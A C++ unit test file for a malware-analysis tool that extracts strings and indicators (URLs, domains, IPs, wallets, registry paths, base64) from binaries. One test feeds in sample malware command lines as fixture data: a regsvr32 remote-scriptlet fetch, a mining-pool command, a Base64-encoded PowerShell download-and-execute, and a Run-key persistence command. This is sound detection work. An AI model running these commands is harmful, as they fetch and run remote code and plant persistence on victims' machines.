// Strings and indicators in any file: ASCII and UTF-16LE runs, and the URLs, pools, domains, addresses, e-mails,
// wallets, registry paths and base64 blobs in them — and none of the look-alikes binaries are full of.
#include "formats/strings/strings.h"

#include <map>

#include <gtest/gtest.h>

#include "data/tlds.h"
#include "support/bytes.h"
#include "support/fake_proc.h"

namespace msw::formats::strings {
namespace {

std::map<std::string, std::string> iocs_of(const std::string& blob) {
  const auto x = extract(as_bytes(blob));
  std::map<std::string, std::string> out;  // value -> kind
  for (const auto& i : find_iocs(x.strings, data::known_tld)) out[i.value] = std::string(to_string(i.kind));
  return out;
}

TEST(Strings, AsciiAndUtf16RunsWithOffsets) {
  std::string blob = std::string("\x01\x02", 2) + "hello world" + std::string(3, '\0') +
                     test::bytes::utf16("wide string") + std::string("\xff", 1) + "abc";
  const auto x = extract(as_bytes(blob));
  ASSERT_EQ(x.strings.size(), 2u);  // "abc" is shorter than the minimum
  EXPECT_EQ(x.strings[0].text, "hello world");
  EXPECT_EQ(x.strings[0].offset, 2u);
  EXPECT_FALSE(x.strings[0].utf16);
  EXPECT_EQ(x.strings[1].text, "wide string");
  EXPECT_EQ(x.strings[1].offset, 16u);
  EXPECT_TRUE(x.strings[1].utf16);
  EXPECT_FALSE(x.truncated);
}

TEST(Strings, FindsIndicatorsAndSkipsLookAlikes) {
  std::string blob;
  auto ascii = [&](std::string_view s) { blob += std::string(s) + std::string(4, '\0'); };
  ascii("regsvr32 /u /s /i:http://js.mykings.top:280/v.sct scrobj.dll");
  ascii("-o stratum+tcp://pool.supportxmr.com:3333 -u " + std::string(test::kFakeMinerWallet));
  blob += test::bytes::utf16("download hxxp://45.77.10.9/ups.rar now") + std::string(4, '\0');
  ascii("contact admin@mykings.top for keys");
  ascii("btc 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa, eth 0x52908400098527886E0F7030069857D2E4169EE7");
  ascii("not a wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb");  // checksum broken
  ascii("reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v start");
  // PowerShell -EncodedCommand: UTF-16LE of IEX (New-Object
  // Net.WebClient).DownloadString('http://wmi.mykings.top:8888/test')
  ascii(
      "powershell -enc "
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBh"
      "AGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdwBtAGkALgBtAHkAawBpAG4AZwBzAC4AdABvAHAAOgA4ADgAOAA4AC8AdABlAHMAdAAn"
      "ACkA");
  // Look-alikes: file names, versions, a path, a .NET type name.
  ascii(
      "kernel32.dll config.json payload.sh run.py 6.1.7601.17514 1.0.0.0 System.Net.WebClient "
      "C:\\Windows\\debug\\x.exe");
  // Versions the text names as such are no addresses (1.1.0.14 is a public address otherwise).
  ascii("FileVersion: 1.1.0.14");
  ascii("miner v5.11.2.1 build=10.0.19.1 Version \"2.3.4.5\"");
  const auto found = iocs_of(blob);
  const std::map<std::string, std::string> want = {
      {"http://js.mykings.top:280/v.sct", "url"},
      {"mykings.top", "domain"},
      {"js.mykings.top", "domain"},
      {"stratum+tcp://pool.supportxmr.com:3333", "pool_url"},
      {"pool.supportxmr.com", "domain"},
      {std::string(test::kFakeMinerWallet), "wallet"},
      {"http://45.77.10.9/ups.rar", "url"},
      {"45.77.10.9", "ip"},
      {"admin@mykings.top", "email"},
      {"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "wallet"},
      {"0x52908400098527886E0F7030069857D2E4169EE7", "wallet"},
      {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v start", "registry_path"},
      {"http://wmi.mykings.top:8888/test", "url"},
      {"wmi.mykings.top", "domain"},
  };
  for (const auto& [value, kind] : want) {
    auto it = found.find(value);
    ASSERT_NE(it, found.end()) << value;
    EXPECT_EQ(it->second, kind) << value;
  }
  for (const auto& [value, kind] : found) {
    if (kind == "base64") continue;
    EXPECT_TRUE(want.count(value)) << "unexpected " << kind << " " << value;
  }
  size_t base64 = 0;
  for (const auto& [value, kind] : found) base64 += kind == "base64";
  EXPECT_EQ(base64, 1u);
}

TEST(Strings, TheTldListIsTheRealOne) {
  EXPECT_GT(data::known_tld_count(), 1000u);
  for (auto t : {"com", "top", "cn", "xyz", "onion", "xn--fiqs8s"}) EXPECT_TRUE(data::known_tld(t)) << t;
  for (auto t : {"dll", "exe", "json", "local", "a"}) EXPECT_FALSE(data::known_tld(t)) << t;
}

TEST(Strings, LimitsHold) {
  std::string blob;
  for (size_t i = 0; i < 3 * kMaxStringLength; ++i) blob += 'a';
  const auto x = extract(as_bytes(blob));
  ASSERT_EQ(x.strings.size(), 3u);  // cut, and continued
  EXPECT_EQ(x.strings[1].offset, kMaxStringLength);
}

}  // namespace
}  // namespace msw::formats::strings
